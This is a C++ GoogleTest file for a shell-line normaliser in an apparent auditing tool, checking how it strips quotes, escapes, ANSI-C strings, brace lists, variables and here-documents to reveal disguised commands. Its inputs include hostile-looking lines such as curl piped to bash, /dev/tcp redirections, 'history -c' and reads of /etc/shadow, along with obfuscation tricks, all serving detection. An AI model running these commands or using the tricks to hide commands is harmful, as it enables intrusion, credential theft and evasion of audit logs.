// SPDX-License-Identifier: Apache-2.0
// shell::normalise: the words and the line a shell would see.
#include "shaudit/shell_words.h"

#include <gtest/gtest.h>

#include <chrono>
#include <string>
#include <vector>

using shaudit::shell::normalise;
using shaudit::shell::Vars;
using W = std::vector<std::string>;

namespace {

std::string line(std::string_view s, const Vars* v = nullptr) {
  return normalise(s, v).line;
}
W words(std::string_view s, const Vars* v = nullptr) {
  return normalise(s, v).words;
}

TEST(ShellWords, QuotesAreRemoved) {
  EXPECT_EQ(line(R"(echo x >"/etc/x")"), "echo x >/etc/x");
  EXPECT_EQ(line(R"(curl -s http://x |"ba"sh)"), "curl -s http://x |bash");
  EXPECT_EQ(line(R"(h"istory" -c)"), "history -c");
  EXPECT_EQ(line(R"(cat < /dev/"tcp"/1.2.3.4/80)"), "cat < /dev/tcp/1.2.3.4/80");
  EXPECT_EQ(line(R"('his'tory   -c)"), "history -c");
  EXPECT_EQ(words(R"(echo "a b" 'c d'e)"), (W{"echo", "a b", "c de"}));
  EXPECT_EQ(words(R"(echo "" '')"), (W{"echo", "", ""}));
}

TEST(ShellWords, EscapesAreResolved) {
  EXPECT_EQ(line(R"(c\url x | ba\sh)"), "curl x | bash");
  EXPECT_EQ(line(R"(echo \"a\ b\")"), R"(echo "a b")");
  EXPECT_EQ(words(R"(echo "a\"b\$c\\d\e")"), (W{"echo", R"(a"b$c\d\e)"}));
  EXPECT_EQ(line("curl http://x \\\n| sh"), "curl http://x | sh");  // a line continuation
  EXPECT_EQ(line("echo a\\"), "echo a");                            // a trailing backslash
}

TEST(ShellWords, AnsiCQuoting) {
  EXPECT_EQ(line(R"($'\x62ash' -i)"), "bash -i");
  EXPECT_EQ(line(R"($'\142'ash)"), "bash");
  EXPECT_EQ(line(R"($'\u0062\U00000061'sh)"), "bash");
  EXPECT_EQ(words(R"(echo $'a\tb\'c\\' $'\cA' $'\q')"), (W{"echo", "a\tb'c\\", "\x01", "\\q"}));
  EXPECT_EQ(line(R"(echo "$'\x41'")"), R"(echo $'\x41')");  // not inside double quotes
}

TEST(ShellWords, BraceLists) {
  EXPECT_EQ(words("cat /etc/{passwd,shadow}"), (W{"cat", "/etc/passwd", "/etc/shadow"}));
  EXPECT_EQ(line("cat /etc/{passwd,shadow}"), "cat /etc/passwd /etc/shadow");
  EXPECT_EQ(words("{h,}istory -c"), (W{"history", "istory", "-c"}));
  EXPECT_EQ(words("x{a,{b,c}}y"), (W{"xay", "xby", "xcy"}));
  EXPECT_EQ(words("{a,b}{1,2}"), (W{"a1", "a2", "b1", "b2"}));
  EXPECT_EQ(words("echo {a} {1..3} '{a,b}' \\{a,b}"),
            (W{"echo", "{a}", "{1..3}", "{a,b}", "{a,b}"}));
  EXPECT_EQ(words("x={a,b}"), (W{"x={a,b}"}));  // not in assignments
}

TEST(ShellWords, VariablesAssignedBefore) {
  EXPECT_EQ(line(R"(a=ba; $a"sh")"), R"(a=ba; bash)");
  EXPECT_EQ(line("c=tcp; echo > /dev/$c/1.2.3.4/80"), "c=tcp; echo > /dev/tcp/1.2.3.4/80");
  EXPECT_EQ(line("x=/etc; echo hi >${x}/passwd"), "x=/etc; echo hi >/etc/passwd");
  EXPECT_EQ(line("export H=hist; ${H}ory -c"), "export H=hist; history -c");
  EXPECT_EQ(line(R"(a="b a"; echo "$a")"), "a=b a; echo b a");
  // Unknown: kept as typed (braced when text follows directly once quotes go).
  EXPECT_EQ(line(R"(echo $HOME $a"sh" ${x:-y} $1 $(id) `id`)"),
            R"(echo $HOME ${a}sh ${x:-y} $1 $(id) `id`)");
  // A prefix assignment is the command's own, not the shell's.
  EXPECT_EQ(line("a=ba env; $a"), "a=ba env; $a");
  Vars session{{"p", "/dev/tcp"}};
  EXPECT_EQ(line("cat <$p/h/1", &session), "cat </dev/tcp/h/1");
  auto n = normalise("a=1; b=$a$a; export c=x d; e=f cmd");
  EXPECT_EQ(n.assignments, (std::vector<std::pair<std::string, std::string>>{
                               {"a", "1"}, {"b", "11"}, {"c", "x"}}));
}

TEST(ShellWords, OperatorsAndRedirections) {
  EXPECT_EQ(line("a&&b||c;d|e 2>/dev/null >>f &>g"), "a&&b||c;d|e 2>/dev/null >>f &>g");
  EXPECT_EQ(words("a&&b 2>/dev/null >>f"), (W{"a", "b", "/dev/null", "f"}));
  EXPECT_EQ(line("echo a\necho b"), "echo a; echo b");
  EXPECT_EQ(line("ls |\n wc"), "ls | wc");
  EXPECT_EQ(line("   ls\t  -l  \n"), "ls -l");
}

TEST(ShellWords, Comments) {
  EXPECT_EQ(line("echo a # history -c"), "echo a");
  EXPECT_EQ(line("echo a#b"), "echo a#b");
  EXPECT_EQ(line("echo '#x' # c\nls"), "echo #x; ls");
}

TEST(ShellWords, HereDocuments) {
  // A shell's body: each line normalised as typed, after its command; the delimiter goes.
  EXPECT_EQ(line("bash <<EOF\n\"cu\"rl x | s\\h\necho 'it''s'\nEOF\nls"),
            "bash <<EOF; curl x | sh; echo its; ls");
  EXPECT_EQ(line("sudo /bin/sh <<-'E' >/tmp/x\n\tit's\n\tE\n"), "sudo /bin/sh <<-E >/tmp/x; its");
  EXPECT_EQ(line("x=/etc; sh <<E\ncat $x/shadow"), "x=/etc; sh <<E; cat /etc/shadow");
  // Another command's body is data.
  EXPECT_EQ(line("cat <<E >/tmp/x\nhistory -c\nE\nls"), "cat <<E >/tmp/x; ls");
  EXPECT_EQ(words("cat <<E\na b\nE"), (W{"cat", "E"}));
}

TEST(ShellWords, AShellsDashCStringIsACommandLineToo) {
  EXPECT_EQ(line(R"(bash -c 'h"istory" -c; echo a' arg0)"),
            R"(bash -c h"istory" -c; echo a arg0; history -c; echo a)");
  EXPECT_EQ(normalise(R"(sudo /bin/sh -o pipefail -lc "cu\"rl\" x | ba\sh")").line,
            R"(sudo /bin/sh -o pipefail -lc cu"rl" x | ba\sh; curl x | bash)");
  EXPECT_EQ(normalise(R"(bash -c 'h"istory" -c')").obfuscated, "history");
  EXPECT_EQ(line(R"(x=/etc; sh -c "cat $x/shadow")"),
            "x=/etc; sh -c cat /etc/shadow; cat /etc/shadow");
  EXPECT_EQ(line(R"(sh -c 'sh -c "a\"b\""')"),
            R"(sh -c sh -c "a\"b\""; sh -c a"b")");  // one level
  EXPECT_EQ(line("python3 -c 'print(1)'"), "python3 -c print(1)");
  EXPECT_EQ(line("bash --norc script.sh"), "bash --norc script.sh");
}

TEST(ShellWords, NestedAndUnterminatedQuotes) {
  EXPECT_EQ(words(R"(echo "a 'b' c" 'x "y" z')"), (W{"echo", "a 'b' c", R"(x "y" z)"}));
  EXPECT_EQ(words(R"(echo "abc)"), (W{"echo", "abc"}));
  EXPECT_EQ(words("echo 'abc"), (W{"echo", "abc"}));
  EXPECT_EQ(words("echo $'ab\\"), (W{"echo", "ab\\"}));
  EXPECT_EQ(words("echo ${abc"), (W{"echo", "${abc"}));
}

TEST(ShellWords, ObfuscatedCommandNames) {
  EXPECT_EQ(normalise(R"(h"istory" -c)").obfuscated, "history");
  EXPECT_EQ(normalise(R"(x | "ba"sh)").obfuscated, "bash");
  EXPECT_EQ(normalise(R"(c\url x)").obfuscated, "curl");
  EXPECT_EQ(normalise(R"($'\x62ash')").obfuscated, "bash");
  EXPECT_EQ(normalise(R"(a=ba; $a"sh")").obfuscated, "bash");
  EXPECT_EQ(normalise(R"($a"sh")").obfuscated, "${a}sh");
  EXPECT_EQ(normalise("ba$x -i").obfuscated, "ba$x");
  EXPECT_EQ(normalise("$a$b").obfuscated, "$a$b");
  EXPECT_EQ(normalise("sudo h'istory' -c").obfuscated, "history");
  for (const char* ok : {R"("ls" -l)", R"(\ls)", "$EDITOR f", R"("$EDITOR" f)", "$HOME/bin/tool",
                         "'./configure'", "echo h\"istory\"", "x=a\"b\"c ls",
                         "/usr/bin/env python3", "git commit -m \"fix\"", "ls > a\"b\"c"})
    EXPECT_EQ(normalise(ok).obfuscated, "") << ok;
}

TEST(ShellWords, ArbitraryBytesAndLongLines) {
  std::string bytes;
  for (int i = 0; i < 4096; ++i) bytes += static_cast<char>((i * 131 + 7) % 256);
  (void)normalise(bytes);  // no crash
  // 128 KiB lines of the costly shapes, each in well under a second (linear).
  const std::string shapes[] = {std::string(128 * 1024, '{'), std::string(128 * 1024, '"'),
                                std::string(128 * 1024, '\\'), std::string(128 * 1024, '$')};
  for (const auto& s : shapes) {
    auto t0 = std::chrono::steady_clock::now();
    (void)normalise(s);
    EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::milliseconds(500));
  }
  std::string braces;
  for (int i = 0; i < 16 * 1024; ++i) braces += "{a,b}";
  std::string vars = "a=0123456789012345678901234567890123456789;";
  for (int i = 0; i < 40 * 1024; ++i) vars += "$a";
  std::string docs;
  for (int i = 0; i < 8 * 1024; ++i) docs += "x=y; sh <<E\n$x l\nE\n";
  for (const auto* s : {&braces, &vars, &docs}) {
    auto t0 = std::chrono::steady_clock::now();
    auto n = normalise(*s);
    EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::milliseconds(500));
    // Expansions stop after max(64 KiB, the text's size) added bytes.
    EXPECT_LE(n.line.size(), s->size() + std::max<size_t>(s->size(), 64 * 1024));
  }
}

}  // namespace
